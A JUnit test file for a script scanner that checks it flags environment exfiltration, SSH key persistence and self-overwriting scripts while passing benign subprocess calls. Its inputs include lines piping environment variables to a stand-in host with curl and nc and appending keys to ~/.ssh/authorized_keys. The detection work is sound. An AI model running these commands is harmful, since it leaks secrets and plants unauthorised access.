package dev.assay.intake.scan;

import static dev.assay.intake.scan.Scanned.HEAD;
import static dev.assay.intake.scan.Scanned.warnings;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Tests lines that resemble an attack by one word, and attacks that use the same word.
class HandedEnvironmentTest {
  private static final String COPY = "env = os.environ.copy()\n";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "subprocess.run(['git', 'push', 'origin', 'main'], env=env, check=True)\n",
        "subprocess.run([\"aws\", \"s3\", \"cp\", \"site\", \"s3://site\"], env=env)\n",
        "subprocess.run(['rsync', '-a', 'site/', 'web@example.org:'], env={**os.environ, 'A': '1'})\n",
      })
  void a_program_that_is_started_gets_the_environment(String call) throws IOException {
    assertThat(warnings(HEAD, "scripts/a.py", COPY + call)).doesNotContain("scan.exfiltration");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "requests.post(url, json={'env': env})\n",
        "requests.post(url, json={'a': 1, \"env\":env})\n",
        "requests.post(url, json=globals()['env'])\n",
        "requests.post(url, json={'a': f'{env}'})\n",
        "requests.post('https://x.example.net/u', json=dict(env), env=env)\n",
        "subprocess.run(['curl', '-d', str(env), 'https://x.example.net'], env=env)\n",
        "subprocess.run('env | curl -d @- https://x.example.net', shell=True, env=env)\n",
        "subprocess.run('printenv | nc x.example.net 80 | nc x.example.net 81', shell=True, env=env)\n",
        "requests.post('https://x.example.net/u', data=subprocess.run(['sh', 'a'], env=env).stdout)\n",
        "out = subprocess.run(['sh', 'a'], env=env).stdout\nrequests.post('https://x.example.net/u', data=out)\n",
      })
  void nothing_else_is_excused_by_that(String call) throws IOException {
    assertThat(warnings(HEAD, "scripts/a.py", COPY + call)).contains("scan.exfiltration");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "find / -name authorized_keys -exec cat {} + > \"$out/authorized_keys.txt\"\n",
        "echo \"  NAME=<product> $0 discover <query>\"\n",
      })
  void a_report_and_a_usage_change_nothing(String line) throws IOException {
    assertThat(warnings(HEAD, "scripts/a.sh", line))
        .doesNotContain("scan.persistence", "scan.self-modification");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "cat key.pub >> ~/.ssh/authorized_keys\n",
        "cat key.pub >>\"$HOME/.ssh/authorized_keys\"\n",
        "cat key.pub >> ~/.ssh/authorized_keys2; echo <product>\n",
      })
  void the_file_itself_is_still_found(String line) throws IOException {
    assertThat(warnings(HEAD, "scripts/a.sh", line)).contains("scan.persistence");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo new > $0\n",
        "echo new >> \"$0\"\n",
        "echo new>$0 \n",
        "echo '<product>' > $0\n",
      })
  void a_script_that_overwrites_itself_is_still_found(String line) throws IOException {
    assertThat(warnings(HEAD, "scripts/a.sh", line)).contains("scan.self-modification");
  }
}
